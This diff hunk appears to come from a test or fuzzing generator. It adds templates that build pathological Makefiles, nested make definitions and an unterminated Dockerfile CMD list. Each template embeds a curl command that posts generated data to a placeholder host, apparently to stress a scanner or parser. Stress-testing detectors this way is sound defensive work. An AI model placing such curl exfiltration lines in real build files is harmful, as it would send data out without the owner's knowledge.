@@ -124,6 +124,11 @@ SHAPES = {
     "variables of make without an end.mk": lambda n: (
         f"start:\n\tcurl -u a:$(X) -d '{acquire(5)}' h\n" + "define X\nX := $(X)\n" * n
     ),
+    "variables of make that are one another.mk": lambda n: (
+        "".join(f"X{at} := $(X{at + 1})\n" for at in range(n)) + f"start:\n\tcurl $(X0) -d '{acquire(5)}'\n"
+    ),
+    "definitions of make.mk": lambda n: "define X\n" * n + f"endef\nstart:\n\tcurl h -d '{acquire(5)}'\n",
+    "lists of words.Dockerfile": lambda n: f"RUN curl h -d '{acquire(5)}'\n" + 'CMD ["a", \\\n' * n,
     "variables of a request file.http": lambda n: (
         "".join(f"@x{at} = {{{{x{at + 1}}}}}\n" for at in range(n)) + f"POST /\nX-Api-Key: {{{{x0}}}}\n\n{acquire(5)}\n"
     ),
